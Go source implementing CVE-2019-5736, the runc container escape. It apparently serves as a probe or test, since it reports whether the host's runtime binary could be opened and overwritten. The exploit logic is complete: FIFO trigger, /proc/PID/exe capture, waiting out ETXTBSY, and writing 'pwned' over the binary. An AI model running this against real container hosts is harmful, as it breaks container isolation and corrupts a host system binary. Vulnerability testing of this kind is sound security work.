package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// exeAttack is CVE-2019-5736 from inside a container. It makes FIFO and
// waits for a process whose command line names it: the nsexec binary,
// started by the kernel for a script whose first line is
// "#!/proc/self/exe --seccomp=FIFO", blocks there reading its profile. It
// opens /proc/PID/exe read-only, kills that process and, once nothing runs
// the binary any more (a running binary cannot be opened for writing:
// ETXTBSY), reopens the descriptor for writing and writes. It prints
// "exe RESULT TARGET" and "write RESULT".
func exeAttack(fifo string) {
	if err := syscall.Mkfifo(fifo, 0o666); err != nil {
		fail("mkfifo " + fifo + ": " + err.Error())
	}
	fmt.Println("ready")
	w, err := os.OpenFile(fifo, os.O_WRONLY, 0) // returns once the reader opened it
	if err != nil {
		fail(err.Error())
	}
	pid := findByArg("--seccomp=" + fifo)
	exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", pid))
	if err != nil {
		fmt.Println("exe", errnoName(errnoOfPath(err)), "-")
		return
	}
	target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", exe.Fd()))
	fmt.Println("exe ok", strconv.Quote(target))
	syscall.Kill(pid, syscall.SIGKILL)
	for syscall.Kill(pid, 0) == nil {
		time.Sleep(time.Millisecond)
	}
	w.Close()

	self := fmt.Sprintf("/proc/self/fd/%d", exe.Fd())
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		f, err := os.OpenFile(self, os.O_WRONLY, 0)
		if errnoOfPath(err) == syscall.ETXTBSY && time.Now().Before(deadline) {
			continue
		}
		if err != nil {
			fmt.Println("write", errnoName(errnoOfPath(err)))
			return
		}
		_, err = f.Write([]byte("pwned"))
		if err != nil {
			fmt.Println("write", errnoName(errnoOfPath(err)))
			return
		}
		fmt.Println("write ok")
		return
	}
}

// findByArg waits for a process (not this one) with arg in its command line.
func findByArg(arg string) int {
	for {
		cmdlines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, c := range cmdlines {
			data, _ := os.ReadFile(c)
			pid, _ := strconv.Atoi(filepath.Base(filepath.Dir(c)))
			if pid == os.Getpid() {
				continue
			}
			for _, a := range strings.Split(string(data), "\x00") {
				if a == arg {
					return pid
				}
			}
		}
		time.Sleep(time.Millisecond)
	}
}

// errnoOfPath is the errno inside a *PathError (or any wrapped one).
func errnoOfPath(err error) syscall.Errno {
	var e syscall.Errno
	if errors.As(err, &e) {
		return e
	}
	if err != nil {
		return syscall.EINVAL
	}
	return 0
}
